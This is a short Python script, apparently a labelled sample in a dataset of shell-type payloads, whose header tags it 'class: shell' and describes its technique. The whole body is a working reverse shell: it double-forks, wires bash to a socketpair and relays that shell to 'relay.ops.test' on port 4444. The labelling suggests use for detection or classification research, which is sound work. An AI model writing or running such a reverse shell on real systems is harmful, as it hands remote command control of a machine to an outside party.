# class: shell; possible: low medium; style: socketpair between relay and shell, double fork
import os
import socket
import select

ours, theirs = socket.socketpair()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.dup2(theirs.fileno(), fd)
        os.execvp("bash", ["bash"])
    os._exit(0)
theirs.close()
peer = socket.create_connection(("relay.ops.test", 4444))
while True:
    for sock in select.select([peer, ours], [], [])[0]:
        data = sock.recv(4096)
        if not data:
            raise SystemExit
        (ours if sock is peer else peer).sendall(data)
